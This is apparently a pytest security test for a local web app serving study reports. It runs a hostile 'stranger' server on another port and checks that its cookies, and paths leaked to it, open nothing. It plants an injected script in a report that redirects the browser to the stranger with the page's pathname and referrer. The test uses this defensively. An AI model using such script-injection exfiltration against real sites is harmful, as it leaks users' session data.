"""A server of somebody else on another port of the host: nothing that a browser sends it opens the page."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.error import HTTPError
from urllib.parse import urlsplit
from urllib.request import Request, urlopen

import pytest
from browsing import serving
from served_site import record_study, write_files
from tensorboard_tabs import CHROMIUM, WAIT_MS, browser

pytestmark = pytest.mark.web

TOLD = "location.pathname, document.referrer, performance.getEntriesByType('navigation')[0].name, name"
LEAK = f"<script>location = 'http://127.0.0.1:PORT/?' + encodeURIComponent([{TOLD}].join(' '))</script>"
"""A report that tells the stranger all it knows of where it lies."""


class Stranger(ThreadingHTTPServer):
    """Keeps what it is sent, gives out cookies like the page's, and sends visitors on to what it was told."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Listening)
        self.heard: list[tuple[str, str]] = []
        self.target = 0


class Listening(BaseHTTPRequestHandler):
    """Every request is answered with a page."""

    server: Stranger

    def do_GET(self) -> None:
        self.server.heard.append((self.path, self.headers.get("cookie", "")))
        path, told = (urlsplit(self.path).path, urlsplit(self.path).query.partition("%20")[0])
        onwards = f'<meta http-equiv="refresh" content="0; url={told.replace("%2F", "/")}">' if told else ""
        self.send_response(200)
        self.send_header("content-type", "text/html")
        self.send_header("set-cookie", f"orchestrate-{self.server.target}=mine; path=/")
        self.end_headers()
        self.wfile.write(f"<!doctype html><title>x</title>{onwards}<p>heard at {path}</p>".encode())

    def log_message(self, *_: object) -> None:
        """Be quiet."""


@pytest.fixture
def stranger() -> Iterator[Stranger]:
    server = Stranger()
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield server
    server.shutdown()
    thread.join()
    server.server_close()


def opened(url: str, cookie: str, body: bytes | None = None) -> int:
    """The status that a program gets with a cookie."""
    origin = "{0.scheme}://{0.netloc}".format(urlsplit(url))
    try:
        with urlopen(Request(url, body, {"cookie": cookie, "origin": origin})) as answer:
            return int(answer.status)
    except HTTPError as error:
        return error.code


def test_what_a_browser_sends_to_another_port_opens_nothing(tmp_path: Path, stranger: Stranger) -> None:
    """Also where a report, whoever wrote it, tells the other port its own address."""
    pytest.importorskip("playwright", reason="needs playwright to drive a browser")
    if CHROMIUM is None:
        pytest.skip("needs chromium")
    write_files(tmp_path)
    record_study(tmp_path)
    elsewhere = f"http://127.0.0.1:{stranger.server_address[1]}"
    report = tmp_path / "runs" / "small" / "report.html"
    report.write_text(LEAK.replace("PORT", str(stranger.server_address[1])))
    with serving(tmp_path) as address, browser() as page:
        here = address.partition("/?")[0]
        stranger.target = urlsplit(address).port or 0
        page.goto(address)
        page.get_by_role("link", name="small").click()
        study = page.url
        for path in ("/", "/studies/small/", "/new"):
            page.goto(f"{elsewhere}{path}")
        page.goto(study)
        page.get_by_role("link", name="Report", exact=True).click()
        page.get_by_text("heard at").wait_for(timeout=WAIT_MS)
        page.wait_for_url("**/report.html", timeout=WAIT_MS)
        page.goto(study)
        assert page.get_by_role(
            "link", name="Report", exact=True
        ).is_visible()  # its cookie throws nobody out
        session = next(one for one in page.context.cookies(study) if one["path"] != "/")
        base, secret = session["path"], session["value"]
        assert opened(study, f"{session['name']}={secret}") == 200
        heard = [(path, cookie) for path, cookie in stranger.heard if "favicon" not in path]
        assert len(heard) == 5
        for path, cookie in heard:
            assert base.strip("/") not in path
            assert secret not in cookie
            for place in ("/", f"{base}/", f"{base}/studies/small/", f"{base}/new"):
                assert opened(f"{here}{place}", cookie) == 401
        ticket = heard[-1][0].removesuffix("/studies/small/files/report.html")
        assert opened(f"{here}{ticket}/studies/small/files/report.html", "") == 200
        for place in (
            "/",
            "/new",
            "/studies/small/",
            "/studies/other/files/report.html",
            "/studies/small/tensorboard/",
        ):
            assert opened(f"{here}{ticket}{place}", "") == 401, place
        assert opened(f"{here}{ticket}/studies/small/stop", "", b"word=") == 401
